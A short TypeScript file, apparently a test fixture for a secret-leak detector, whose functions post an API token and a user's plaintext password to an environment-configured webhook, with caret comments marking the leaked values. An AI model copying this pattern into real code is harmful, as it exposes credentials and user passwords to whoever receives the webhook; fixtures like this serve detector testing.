const HOOK_URL = process.env.EVENT_WEBHOOK_URL!;

async function post(payload: object) {
  await fetch(HOOK_URL, { method: "POST", body: JSON.stringify(payload) });
}

export async function started(event: string) {
  await post({ text: `${event} with ${process.env.SHELF_API_TOKEN}`, event });
  //                                  ^^^^^^^^^^^^^^^^^^^^^^^^^^^ message
}

export async function reader(name: string, password: string) {
  await fetch(HOOK_URL, { method: "POST", body: JSON.stringify({ name, note: `password ${password}` }) });
  //                                                                                     ^^^^^^^^ message
}
